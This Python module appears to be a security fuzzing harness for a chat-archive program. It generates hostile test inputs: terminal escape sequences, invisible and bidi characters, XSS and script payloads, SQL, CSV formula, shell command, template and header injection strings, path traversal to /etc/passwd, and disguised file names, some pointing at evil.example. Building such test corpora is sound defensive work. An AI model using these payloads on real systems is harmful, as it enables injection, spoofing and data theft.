"""Hostile texts: some bases of each family, and what a seed makes of them.

Payload N of a seed is always the same text, so a finding is replayed alone.
"""

import html
import random
import unicodedata
import urllib.parse

# A shell that executes a payload makes this file.
CANARY = "injected-canary"

# No style of the program's own (injection_checks.py): 5 and 8 blink and hide, and 48;5;9 is a background that it does not use.
# fmt: off
BASES = {
    "ansi": [
        "\x1b[5;31mred", "\x1b[2J\x1b[H", "\x1b[8mhidden", "\x1b[48;5;9m!", "\x1b[1A\x1b[2Kgone", "\x1b[?1049h", "\x1bc",
        "\x1b(0lqk",
    ],
    "osc": [
        "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
        "\x1b]1337;File=:AA\x07",
    ],
    "dcs": ["\x1bP$q\"p\x1b\\", "\x1bPtmux;\x1b\x1b]0;x\x07\x1b\\", "\x1b_Gi=1;AA\x1b\\", "\x1b^pm\x1b\\", "\x1bX sos\x1b\\"],
    "c0": ["a\rb", "a\bb", "\x07", "a\x7fb", "a\x0eb\x0f", "a\x0bb\x0cc", "\x05", "\x00x", "a\x1ab\x1c\x1d\x1e\x1f", "\r\n\r\nnext"],
    "c1": ["\x9b31m", "\x9d0;t\x9c", "\x90q\x9c", "\x85next", "\x8d\x84", "\x9f_\x9c", "\x80\x9e"],
    "bidi": ["\u202eexe.gpj", "\u2066a\u2069", "\u200f\u200e", "\u061c1", "\u202a\u202b\u202c\u202d", "\u2067abc\u2068"],
    "invisible": [
        "a\u200bb", "\ufeffx", "a\u2060b\u2064", "\u00adx", "\u180e", "\u034f", "\u3164", "\uffa0", "\u115f\u1160", "\u206a\u206f",
        "\ufff9a\ufffab\ufffb", "a\u17b4\u17b5b", "\U0001bca0\U0001bca3", "\U0001d173a\U0001d17a", "\ufff0\ufff8",
        "\U000e0fff", "\U000e0080",
        # Where a script needs some of them, others, and too many.
        "\u1780\u200b\u1781\u2060\u1782\u200b\u200b\u200b\u200b", "\u05d0\u200f\u05d1\u202e\u05d2", "ab\u00adcd\u00ad\u00ade",
        "\u1820\u180e\u1820\u180e", "\u05d0\u200e\u05d1 a\u200e!\u05d2",
    ],
    "tags": ["".join(chr(0xE0000 + ord(letter)) for letter in "evil"), "\U000e0001\U000e007f", "\u2764\U000e0100", "a\U000e01ef", "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f\U000e0067", "\U0001f3f4\U000e0065\U000e0076\U000e0069\U000e006c\U000e007f"],
    "lines": [
        "a\nb", "a\r\nb", "a\u2028b\u2029c", "a\x85b", "\n\n\n", "a\n2026-11-21 06:23:11  alice  forged", "\n--- end: 9 messages",
    ],
    "html": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</title><svg/onload=alert(1)>", "<!--", "--><b>", "]]><b>",
        "</style><script>x</script>", "<iframe srcdoc=\"<b>\">", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
        "&lt;b&gt;&#60;b&#x3e;", "<\u0338b>", "\uff1cscript\uff1e", "<a\x00b>", "</textarea><plaintext>", "<math><mi//xlink:href=\"data:x,\">",
    ],
    "attribute": [
        "\" onmouseover=\"alert(1)", "' autofocus onfocus='x", "`onload=`", "x\"><b class=\"", "\" style=\"position:fixed",
        "\"\u0301\" a=\"", "=\"'`",
    ],
    "url": [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<b>", "vbscript:x", "//evil.example/", "\\\\evil\\x",
        "http://evil.example/\"onx=", "http://user:pw@evil.example/", "http://\u0430pple.example/", "http:evil", "file:///etc/passwd", "https://evil.example/\u202egpj.exe",
        "http://[::1]:0/<b>", "mailto:x?bcc=y", "http://evil.example/?a=1&amp;b='",
    ],
    "script": [
        "'-alert(1)-'", "\\'-alert(1)//", "${alert(1)}", "</script>", "\u2028alert(1)", "{{constructor.constructor('x')()}}",
        "*/alert(1)/*", "__proto__",
    ],
    "css": [
        "}body{display:none", "expression(alert(1))", "url(//evil.example/x)", "\\3c b\\3e", "@import '//evil.example'",
        "</style>",
    ],
    "markdown": [
        "[x](javascript:x)", "![x](http://evil.example/p.png)", "# heading", "---", "| a | b |\n|---|---|", "```\n</code>", "<b>x</b>", "[x]: //evil.example", "* item",
        "1. item", "**bold", "~~~", "    code", "> quote", "@alice #1 :smile:", "\\", "a  \nb", "www.evil.example", "<http://evil.example>", "&copy;", "[^1]", "$x$", "==x==", "- [ ] x",
    ],
    "csv": [
        "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "a\"b,c\";d",
        "=HYPERLINK(\"http://evil.example\")", " =1", "\uff1d1", "'=1", "%0A=1", ";=1", "\ufeff=1",
    ],
    "sql": [
        "'; DROP TABLE message;--", "\" OR 1=1 --", "%' OR '1'='1", "\\'; --", "a'||'b", "?1", ":name", "$1", "\x00'",
        "UNION SELECT 1",
    ],
    "fts": [
        "\"", "a NEAR b", "body:x", "*", "^a", "AND OR NOT", "(((", "a\"b*", "-", "from:", "in:\"", "{a b}:c", "NOT", "\"\"\"\"",
        "has:link OR", "a AND (b",
    ],
    "format": ["%s%n%x", "%@%@", "%1$*2$s", "{0.__class__}", "{}", "%%", "\\(x)", "%d" * 30, "{{x}}", "%\u0301s"],
    "shell": [
        f"$(touch {CANARY})", f"`touch {CANARY}`", f"; touch {CANARY} #", f"| touch {CANARY}", f"&& touch {CANARY}", f"' ; touch {CANARY} ; '", f"\" ; touch {CANARY} ; \"",
        f"\n touch {CANARY}\n", "-rf", "--help", "--format=json", "-", "~", "*", "!!", "$IFS", "${HOME}", f"<(touch {CANARY})", f"a[$(touch {CANARY})]", "\\n",
    ],
    "path": [
        "../../../../etc/passwd", "..", ".", "/", "/etc/passwd", "..\\..\\x", "a/../../b", "%2e%2e%2f", "CON", "aux.txt",
        ".hidden", "a\x00.png", "\uff0e\uff0e/", "C:\\x", "trailing. ", "x" * 300, "~root", "manifest.jsonl", "index.html",
    ],
    "log": [
        "x\n2026-11-21T06:23:11Z error scrollback: forged", "\r\nINFO forged", "a=b level=critical", "{\"level\":\"error\"}\n", "\x1b[1A", "password=hunter2", "\n!!! gap", "x\n<6>kernel: forged",
    ],
    "template": [
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{% x %}", "[[7*7]]", "@(7*7)", "${jndi:ldap://evil.example/}", "$this.x",
    ],
    "json": [
        "\",\"admin\":true,\"", "\\u0000", "\\", "\"}]}", "\\\"", "\u2028", "{\"$ref\":\"x\"}", "\\ud800", "null", "1e999",
        "]}\n{\"id\":\"x\"}",
    ],
    "toml": ["\"\n[[account]]\nname = \"x", "'''", "\"\"\"", "# comment", "[serve]", "= 1", "\\x", "a.b"],
    "header": [
        "x\r\nSet-Cookie: a=b", "x\nLocation: //evil.example", "x\r\n\r\n<b>", "\"; filename=\"evil.html", "x%0d%0aX: y",
        "=?utf-8?b?PGI+?=", "UTF-8''%0d%0a", "To: a@evil.example\nBcc: b@evil.example", "data: x\n\nevent: reset\ndata: {}",
    ],
    "name": [
        "photo\u202egpj.exe", "a\u202ecod.scr", "invoice.pdf\u00a0" + " " * 40 + ".exe", "x.html", "x.svg", "\"x\".png", "a;b.png",
        "a\nb.png", "*.png",
    ],
    "huge": [
        "e" + "\u0301" * 500, "\U0001f468" + "\u200d\U0001f469" * 200, "\u0e49" * 400, "A" * 5000, "\U0001f1e6" * 301,
        "\ufdfa" * 50, "\u0f3f" * 100, "\ud55c" * 700,
    ],
    "irc": [
        "\x02bold\x0304,01red\x03\x16x", "\x01ACTION x\x01", "\x01VERSION\x01", "\x0304,99x", "\x04ff0000x", "\x11x\x1ey\x1fz",
        "\x03" * 40, ":x :y", "\x16\x16",
    ],
}
# fmt: on


def cased(text, chance):
    return "".join(letter.swapcase() if letter.isascii() and chance.random() < 0.5 else letter for letter in text)


def split(text, chance):
    place = chance.randrange(len(text) + 1)
    return (
        text[:place]
        + chance.choice(["\u200b", "\u200d", "\x00", "\t", "\u202e", "\u0301", "\ufe0f", "\x1b[0m", "\n"])
        + text[place:]
    )


MUTATIONS = {
    "as it is": lambda text, chance: text,
    "case": cased,
    "split": split,
    "behind words": lambda text, chance: (
        chance.choice(
            ["hello ", "\uc548\ub155 ", "\u05e9\u05dc\u05d5\u05dd ", "a\n", "http://a.example/", "  "],
        )
        + text
    ),
    "before words": lambda text, chance: text + chance.choice([" hello", "\uc548\ub155", "\n  a\n  b", " ", "\\"]),
    "twice": lambda text, chance: text + text,
    "per cent": lambda text, chance: urllib.parse.quote(text),
    "entities": lambda text, chance: html.escape(text),
    "wide": lambda text, chance: "".join(
        chr(ord(it) + 0xFEE0) if "!" <= it <= "~" and chance.random() < 0.3 else it for it in text
    ),
    "composed": lambda text, chance: unicodedata.normalize(chance.choice(["NFC", "NFD", "NFKC"]), text),
    "nested": lambda text, chance: text + chance.choice(BASES[chance.choice(sorted(BASES))]),
    "quoted": lambda text, chance: chance.choice("\"'`<([{") + text + chance.choice("\"'`>)]}"),
}


class Payload:
    def __init__(self, seed, number):
        families = sorted(BASES)
        chance = random.Random(f"{seed}/{number}")
        self.number, self.family = number, families[number % len(families)]
        # The first round has each base as it is; mutations follow.
        bases, turn = BASES[self.family], number // len(families)
        names = ["as it is"] if turn < len(bases) else chance.choices(sorted(MUTATIONS), k=chance.randrange(1, 4))
        text = bases[turn % len(bases)]
        for name in names:
            text = MUTATIONS[name](text, chance)
        self.text, self.how = text[:6000], ", ".join(names)

    def __str__(self):
        return f"payload {self.number} ({self.family}: {self.how})"


# One for each thing that the program makes of a text: links, styles, code, scripts that run to the left, what is long.
HARMLESS = [
    "plain",
    "two words",
    "https://example.org/a?b=c&d",
    "http://example.org/",
    "irc://irc.example.org/a",
    "\x02bold\x02 \x1ditalic\x1d \x1funder\x1f \x1estruck\x1e \x11fixed\x11 \x16swapped\x16",
    "\x0304red\x03 \x0302,08blue\x03 \x04ff0000x",
    "a\n  b\n    c\n",
    "one\ntwo",
    "\u05e9\u05dc\u05d5\u05dd",
    "\ubbfc\uc218 \uc548\ub155",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "x" * 400,
    'it\'s & "that"',
    "1 < 2 > 0",
    "@bob",
    "e\u0301",
    "\\",
    "\u65e5\u672c",
    "photo.png",
    "\u202eturned",
    "*stars* _lines_ `ticks`",
    "=1",
    "\ttab",
    "a" * 5000 + " " + "b" * 4000,
]


class Harmless:
    """The number's harmless text, for the reference: the same archive without anything hostile."""

    def __init__(self, number):
        self.number, self.family, self.text = number, "harmless", HARMLESS[number % len(HARMLESS)]

    def __str__(self):
        return f"harmless text {self.number}"
